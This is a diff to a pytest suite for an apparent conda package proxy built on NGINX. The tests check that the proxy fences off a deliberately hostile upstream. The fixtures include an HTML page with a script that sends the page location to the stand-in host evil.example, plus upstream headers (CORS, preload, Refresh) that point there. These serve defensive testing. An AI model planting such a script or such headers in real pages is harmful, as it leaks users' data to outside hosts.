@@ -10,6 +10,7 @@ molecule/edges checks the same end to end with py-rattler.
 from __future__ import annotations
 
 import base64
+import gzip
 import http.client
 import json
 import os
@@ -34,6 +35,10 @@ READ_TOKEN = "reader-token-0123456789abcdef"
 CACHE = "X-Condaport-Cache"
 VALIDITY = 1
 PACKAGE = "pkg-1.0-0.conda"
+SHARD = "0123456789abcdef" * 4 + ".msgpack.zst"
+HOSTILE_PAGE = "<!doctype html><script>fetch('https://evil.example/?' + location)</script>"
+# Big enough for gzip (gzip_min_length).
+RUN_EXPORTS = json.dumps({"packages": {f"pkg-{n}": {"weak": [f"pkg-{n}"]} for n in range(20)}})
 
 
 @dataclass
@@ -47,6 +52,7 @@ class Reply:
 class Setup:
     prefix: Path
     port: int
+    upstream_port: int
     upstream_conf: Path
     upstream_www: Path
 
@@ -106,9 +112,18 @@ http {{
     server {{
         listen 127.0.0.1:{port} {tls}
         root {prefix}/upstream;
+        # A hostile upstream: everything it sends is a page, with headers a browser acts on.
+        default_type text/html;
+        add_header Content-Security-Policy-Report-Only "report-uri https://evil.example/r" always;
+        add_header Access-Control-Allow-Origin "https://evil.example" always;
+        add_header Access-Control-Allow-Credentials true always;
+        add_header Link "<https://evil.example/x.js>; rel=preload; as=script" always;
+        add_header Refresh "0; url=https://evil.example/" always;
+        error_page 404 /404.html;
+        location = /404.html {{ internal; }}
         location /conda-forge/ {{
             auth_basic "upstream"; auth_basic_user_file {prefix}/upstream.htpasswd;
-            try_files $uri =404;
+            try_files $uri ${{uri}}index.html =404;
         }}
         location /public/ {{ try_files $uri =404; }}
     }}
@@ -147,6 +162,26 @@ def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
     (www / "conda-forge/channeldata.json").write_text('{"generation": 1}')
     (www / "conda-forge/noarch" / PACKAGE).write_bytes(b"package-bytes")
     (www / "public/noarch/repodata.json").write_text('{"public": 1}')
+    pages = (
+        "404.html",
+        "conda-forge/index.html",
+        "conda-forge/noarch/index.html",
+        "conda-forge/x.html",
+    )
+    for page in pages:
+        (www / page).write_text(HOSTILE_PAGE)
+    (www / "conda-forge/noarch/run_exports.json").write_text(RUN_EXPORTS)
+    (www / "conda-forge/noarch/repodata_shards.msgpack.zst").write_bytes(b"shard-index")
+    (www / "conda-forge/noarch/shards").mkdir()
+    (www / f"conda-forge/noarch/shards/{SHARD}").write_bytes(b"shard-bytes")
+    local = prefix / "local/main"
+    for name in ("channeldata.json", "noarch/run_exports.json", "noarch/repodata.json"):
+        (local / name).write_text("{}")
+    (local / "index.html").write_text("<!doctype html><title>main</title>")
+    (local / "noarch/repodata_shards.msgpack.zst").write_bytes(b"shard-index")
+    (local / "noarch" / PACKAGE).write_bytes(b"package-bytes")
+    (local / "noarch/shards").mkdir()
+    (local / f"noarch/shards/{SHARD}").write_bytes(b"shard-bytes")
     # NGINX's Last-Modified and ETag count whole seconds (and the size), so a same-size
     # rewrite within the second would revalidate as unchanged: date the originals back.
     an_hour_ago = time.time() - 3600
@@ -220,6 +255,13 @@ def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
                 __condaport_proxy_upstream=upstream,
             )
         )
+        (prefix / f"proxy/channel-{name}.html").write_text(
+            renderer.render(
+                "condaport_proxy",
+                "etc/nginx/condaport-proxy/page.html.j2",
+                __condaport_proxy_upstream=upstream,
+            )
+        )
         if upstream["ca_source"]:
             shutil.copy(upstream["ca_source"], upstream["ca"])
     (prefix / "auth/generation.conf").write_text('return 200 "test\\n";\n')
@@ -238,7 +280,7 @@ def setup(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Setup]:
     subprocess.run([NGINX, "-p", str(prefix), "-c", str(conf)], check=True)
     time.sleep(0.3)
     try:
-        yield Setup(prefix, port, upstream_conf, www)
+        yield Setup(prefix, port, upstream_port, upstream_conf, www)
     finally:
         for config in (conf, upstream_conf):
             stop = [NGINX, "-p", str(prefix), "-c", str(config), "-s", "stop"]
@@ -322,6 +364,103 @@ def test_only_conda_paths_reach_the_upstream(setup: Setup) -> None:
     assert [e["uri"] for e in setup.upstream_log()[before:]] == [
         "/conda-forge/noarch/marker-1.0-0.conda"
     ]
+
+
+# What a hostile upstream sends along that a browser would act on for condaport's origin.
+UPSTREAM_ONLY = (
+    "Content-Security-Policy-Report-Only",
+    "Access-Control-Allow-Origin",
+    "Access-Control-Allow-Credentials",
+    "Link",
+    "Refresh",
+)
+
+
+def fenced(reply: Reply) -> bool:
+    """Sandboxed, never sniffed, and nothing of the upstream's own headers for the browser."""
+    return (
+        reply.headers.get_all("Content-Security-Policy") == ["sandbox; default-src 'none'"]
+        and reply.headers.get_all("X-Content-Type-Options") == ["nosniff"]
+        and not any(reply.headers.get(name) for name in UPSTREAM_ONLY)
+    )
+
+
+def test_the_browse_page_is_condaports_own_never_the_upstreams(setup: Setup) -> None:
+    for url, headers in (
+        ("/forge/", reader()),
+        ("/forge/index.html", reader()),
+        (f"/t/{READ_TOKEN}/forge/", {}),
+        ("/open/", {}),
+    ):
+        page = setup.get(url, headers)
+        assert page.status == 200, (url, page.status)
+        assert page.headers.get_all("Content-Type") == ["text/html; charset=utf-8"], url
+        assert b"<script" not in page.body and b"proxy channel" in page.body, url
+        assert "sandbox" in page.headers["Content-Security-Policy"], url
+        assert page.headers["X-Content-Type-Options"] == "nosniff", url
+    forge = setup.get("/forge/", reader()).body.decode()
+    assert f"https://localhost:{setup.upstream_port}/conda-forge/" in forge
+    assert "mirror" not in forge and MIRROR_PASSWORD not in forge
+    # Nor any other page of the upstream: answered here, never asked for there.
+    for url in ("/forge/noarch/", "/forge/noarch/index.html", "/forge/x.html", "/forge/X.HTM"):
+        assert setup.get(url, reader()).status == 404, url
+    asked = {entry["uri"] for entry in setup.upstream_log()}
+    assert not {u for u in asked if u.endswith(("/", ".html", ".HTM"))}, asked
+
+
+def test_upstream_files_are_sent_as_json_or_bytes_fenced_off(setup: Setup) -> None:
+    expected = {
+        "/forge/noarch/repodata.json": "application/json",
+        "/forge/channeldata.json": "application/json",
+        "/forge/noarch/run_exports.json": "application/json",
+        f"/forge/noarch/{PACKAGE}": "application/octet-stream",
+        f"/forge/noarch/shards/{SHARD}": "application/octet-stream",
+        # The upstream's own 404 page (kept in the cache as an index file's 404 is).
+        "/forge/noarch/missing.json": "application/json",
+        "/forge/noarch/missing-1.0-0.conda": "application/octet-stream",
+    }
+    for url, content_type in expected.items():
+        for attempt in ("MISS", "HIT"):
+            reply = setup.get(url, reader())
+            assert reply.headers.get_all("Content-Type") == [content_type], (url, attempt)
+            assert fenced(reply), (url, attempt, reply.headers)
+    assert b"<script" in setup.get("/forge/noarch/missing-1.0-0.conda", reader()).body
+    # NGINX's own answers keep their one type, and are fenced too.
+    own = setup.get("/forge/noarch/a%20b", reader())
+    assert own.status == 404 and own.headers.get_all("Content-Type") == ["text/html"]
+    assert fenced(own)
+
+
+def test_proxied_json_is_still_compressed_for_clients_that_ask(setup: Setup) -> None:
+    reply = setup.get("/forge/noarch/run_exports.json", reader() | {"Accept-Encoding": "gzip"})
+    assert reply.status == 200 and reply.headers["Content-Encoding"] == "gzip"
+    assert json.loads(gzip.decompress(reply.body)) == json.loads(RUN_EXPORTS)
+    package = setup.get(f"/forge/noarch/{PACKAGE}", reader() | {"Accept-Encoding": "gzip"})
+    assert package.headers["Content-Encoding"] is None and package.body == b"package-bytes"
+
+
+def test_only_package_files_and_shards_are_immutable(setup: Setup) -> None:
+    """Clients (and edges) may keep a package file or a content-addressed shard for a year;
+    anything else of a channel, local or proxied, changes with a publish and revalidates."""
+    immutable = [f"noarch/{PACKAGE}", f"noarch/shards/{SHARD}"]
+    revalidated = [
+        "channeldata.json",
+        "noarch/run_exports.json",
+        "noarch/repodata.json",
+        "noarch/repodata_shards.msgpack.zst",
+    ]
+    for channel in ("main", "forge"):
+        for path in immutable + revalidated:
+            reply = setup.get(f"/{channel}/{path}", reader())
+            assert reply.status == 200, (channel, path, reply.status)
+            cache_control = reply.headers["Cache-Control"]
+            if path in immutable:
+                assert cache_control == "private, max-age=31536000, immutable", (channel, path)
+            else:
+                assert cache_control == "private, max-age=30, must-revalidate", (channel, path)
+    for channel in ("main", "forge"):
+        page = setup.get(f"/{channel}/", reader())
+        assert page.headers["Cache-Control"] == "private, no-cache", channel
 
 
 def test_uploads_to_a_proxy_channel_answer_405_with_a_reason(setup: Setup) -> None:
